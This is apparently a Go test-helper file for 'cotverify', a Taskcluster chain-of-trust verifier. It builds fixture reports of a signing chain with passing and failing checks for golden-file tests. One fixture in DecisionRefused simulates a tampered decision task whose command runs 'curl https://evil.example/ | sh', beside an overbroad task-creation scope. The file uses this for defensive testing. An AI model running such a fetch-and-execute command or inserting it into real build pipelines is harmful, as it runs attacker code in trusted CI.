// Package testreport has reports to test formats with.
package testreport

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"cotverify/pkg/report"
)

// Update says that expected output is written anew.
var Update = flag.Bool("update", false, "write expected output and generated documents anew")

// Golden holds what was written against the file of that name.
func Golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *Update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// The tasks of the reports below.
const (
	SigningID  = "IJbJTQLOTsuAce5W4sVfnw"
	DecisionID = "TzcmAgOaS_-fKH_dxG3yoQ"
	BuildID    = "MRs6JR0jTv6lSSclcNPHxA"
	Build2ID   = "SNN6KjxpQRic2XXnJFYvEg"
	ImageID    = "V8Q7FYSwRnGW7_1GYpdJVQ"
	EarlierID  = "c0dlJ6fGRWm1RyRPVG3Jvw"
)

// Chain returns the links of a signing task of two builds in one docker image,
// which an earlier push made.
func Chain() []report.Link {
	parent := func(id string) report.Dependency { return report.Dependency{TaskID: id, As: "parent"} }
	return []report.Link{
		{TaskID: SigningID, Name: "signing", TaskType: "signing", WorkerImplementation: "scriptworker", Parent: DecisionID, Label: "glean signing",
			Dependencies: []report.Dependency{parent(DecisionID), {TaskID: BuildID, As: "build"}, {TaskID: Build2ID, As: "build"}}},
		{TaskID: DecisionID, Name: "signing:decision", TaskType: "decision", WorkerImplementation: "docker-worker", Parent: DecisionID, Label: "Decision Task",
			Dependencies: []report.Dependency{parent(DecisionID)}},
		{TaskID: BuildID, Name: "signing:build", TaskType: "build", WorkerImplementation: "docker-worker", Parent: DecisionID, Label: "build-glean-github-push",
			Dependencies: []report.Dependency{parent(DecisionID), {TaskID: ImageID, As: "docker-image"}}},
		{TaskID: Build2ID, Name: "signing:build", TaskType: "build", WorkerImplementation: "generic-worker", Parent: DecisionID, Label: "build-glean-windows-push",
			Dependencies: []report.Dependency{parent(DecisionID), {TaskID: ImageID, As: "docker-image"}}},
		{TaskID: ImageID, Name: "signing:build:docker-image", TaskType: "docker-image", WorkerImplementation: "docker-worker", Parent: EarlierID,
			Dependencies: []report.Dependency{parent(EarlierID)}},
		{TaskID: EarlierID, Name: "signing:build:docker-image:decision", TaskType: "decision", WorkerImplementation: "docker-worker", Parent: EarlierID, Label: "Decision Task",
			Dependencies: []report.Dependency{parent(EarlierID)}},
	}
}

// report returns a report of the chain in which each link passes some checks,
// and has the given ones besides.
func Of(more ...report.Check) *report.Report {
	r := &report.Report{
		Schema:    report.Schema,
		Target:    report.Target{TaskID: SigningID, TaskType: "signing", Product: "glean"},
		Artifacts: []report.Artifact{},
		Links:     Chain(),
	}
	for _, link := range r.Links {
		for _, name := range []string{"task", "task-type", "depth", "worker", "signature", "cot"} {
			r.Checks = append(r.Checks, report.Check{Check: name, Status: report.Pass, TaskID: link.TaskID, Link: link.Name})
		}
		for _, c := range more {
			if c.TaskID == link.TaskID {
				c.Link = link.Name
				r.Checks = append(r.Checks, c)
			}
		}
	}
	r.Conclude(false)
	return r
}

func Refused() *report.Report {
	return Of(
		report.Check{Check: "artifact", Status: report.Fail, Reason: report.HashMismatch, TaskID: BuildID, Subject: "public/build/target.apk",
			Message:  "the file is not the one that the task signed",
			Expected: "sha256:da559d42e6cc1d4f1ff0eb9f1e4f1b3b9c9be3a0d1ad2f52b1e7c9f4c5c1a9ee",
			Actual:   "sha256:9f2c110ab3d1da9d2a8af6d4bb4aa5a6b7cf0b4ae2d0eb93a4a9b7a2e6c2f8b1",
			Hint:     "it changed after the task signed it: suspect the storage, not the build"},
		report.Check{Check: "worker-pool", Status: report.Fail, Reason: report.UntrustedPool, TaskID: DecisionID,
			Message:  "the pool is none of the policy's decision pools",
			Expected: "glean-1/decision, glean-3/decision, glean-1/decision-gcp or glean-3/decision-gcp", Actual: "glean-2/decision"},
		report.Check{Check: "task-graph", Status: report.Skip, TaskID: ImageID,
			Message: "the decision task's public/task-graph.json could not be read"},
		report.Check{Check: "unpinned-image", Status: report.Warn, TaskID: EarlierID, Subject: "payload.image",
			Message: "the image is named without a digest, so that another one may have run", Actual: "mozillareleases/taskgraph:decision-v9.1.0"},
		report.Check{Check: "artifact", Status: report.Error, Reason: report.Unavailable, TaskID: Build2ID, Subject: "public/build/target.zip",
			Message: "artifact public/build/target.zip of task SNN6KjxpQRic2XXnJFYvEg could not be had: the server answered 503 three times",
			Hint:    "try again later"},
	)
}

func DecisionRefused(n int) *report.Report {
	diff := []report.Difference{
		{Path: "/payload/env/GLEAN_HEAD_REV", Rebuilt: json.RawMessage(`"121adc467e589742835792d2321882bfd4e0b2fc"`),
			Runtime: json.RawMessage(`"121adc467e589742835792d2321882bfd4e0b2fd"`), Line: 210, Context: []string{"event.after"}},
		{Path: "/payload/command/6", Line: 230, Via: []int{31, 12}, Context: []string{"event.repository.html_url", "event.after", "ownTaskId"},
			Rebuilt: json.RawMessage(`"` + strings.Repeat("PIP_IGNORE_INSTALLED=0 ", 12) + `pip install taskcluster && ./run decision"`),
			Runtime: json.RawMessage(`"` + strings.Repeat("PIP_IGNORE_INSTALLED=0 ", 12) + `curl https://evil.example/ | sh; ./run decision"`)},
		{Path: "/scopes/3", Runtime: json.RawMessage(`"queue:create-task:highest:*"`)},
		{Path: "/extra/treeherder", Rebuilt: json.RawMessage(`{"symbol": "D",
			"machine": {"platform": "gecko-decision"}}`)},
	}
	for len(diff) < n {
		diff = append(diff, report.Difference{Path: "/routes/0", Rebuilt: json.RawMessage(`1`), Runtime: json.RawMessage(`2`)})
	}
	return Of(report.Check{Check: "decision", Status: report.Fail, Reason: report.Differs, TaskID: DecisionID,
		Message: "no task that .taskcluster.yml renders to equals the definition; the closest differs in 4 places",
		Hint:    "cotverify decision " + DecisionID + " --context", Diff: diff[:n]})
}

// Wide returns the report of a signing task of 60 repackaged builds in one docker
// image, on Firefox CI.
func Wide(more ...report.Check) *report.Report {
	r := Of()
	r.RootURL = "https://firefox-ci-tc.services.mozilla.com"
	r.Trust = &report.Trust{Policy: report.Origin{Source: "embedded"}, Keys: report.Origin{Source: "policy"}, Signatures: "require", Require: []string{}}
	r.Links = []report.Link{Chain()[0], Chain()[1], Chain()[2], Chain()[4], Chain()[5]}
	r.Links[0].Dependencies = r.Links[0].Dependencies[:1]
	r.Checks = nil
	for i := range 60 {
		id := WideID(i)
		r.Links[0].Dependencies = append(r.Links[0].Dependencies, report.Dependency{TaskID: id, As: "repackage"})
		r.Links = append(r.Links, report.Link{
			TaskID: id, Name: "signing:repackage", TaskType: "repackage", WorkerImplementation: "docker-worker", Parent: DecisionID,
			Label:        fmt.Sprintf("repackage-l10n-%d-win64-shippable/opt", i),
			Dependencies: []report.Dependency{{TaskID: DecisionID, As: report.AsParent}, {TaskID: BuildID, As: "build"}, {TaskID: ImageID, As: "docker-image"}},
		})
	}
	for _, l := range r.Links {
		for _, check := range []string{"task", "task-type", "depth", "worker", "signature", "cot", "artifact", "worker-pool", "task-graph"} {
			r.Checks = append(r.Checks, report.Check{Check: check, Status: report.Pass, TaskID: l.TaskID, Link: l.Name})
		}
		for _, c := range more {
			if c.TaskID == l.TaskID {
				c.Link = l.Name
				r.Checks = append(r.Checks, c)
			}
		}
	}
	r.Conclude(false)
	return r
}

// WideID returns the taskId of one of the 60 tasks of [Wide].
func WideID(i int) string { return fmt.Sprintf("Y8MEsPXHTmSBdrNMP1b%02dQ", i) }

// Walked returns the chain of the reports' tests as a walk has it.
func Walked(problems ...report.Problem) *report.Graph {
	g := &report.Graph{
		Schema:   report.GraphSchema,
		Target:   report.Target{TaskID: SigningID, TaskType: "signing", Product: "glean", TaskTypeFrom: report.FromFlag, ProductFrom: report.FromFlag},
		Links:    Chain(),
		Problems: problems,
	}
	if g.Problems == nil {
		g.Problems = []report.Problem{}
	}
	return g
}

// Broken returns a chain with a problem of each kind, and a task that is
// named and not in it.
func Broken() *report.Graph {
	g := Walked(
		report.Problem{Kind: report.Doubtful, Check: "two-types", TaskID: DecisionID, Link: "signing:decision", Subject: "build", Message: "it was taken for a decision"},
		report.Problem{Kind: report.Wrong, Check: "worker", TaskID: Build2ID, Link: "signing:build", Message: "two clues disagree", Expected: "docker-worker", Actual: "scriptworker"},
		report.Problem{Kind: report.Missing, Check: "task", TaskID: EarlierID, Link: "signing:build:docker-image:decision", Message: "no answer", Hint: "try again"},
	)
	g.Links[2].Label = `a "label" with <odd> marks & #1 \n`
	g.Links[4].Dependencies = append(g.Links[4].Dependencies, report.Dependency{TaskID: "notInTheChainAtAll0000", As: "build"})
	return g
}
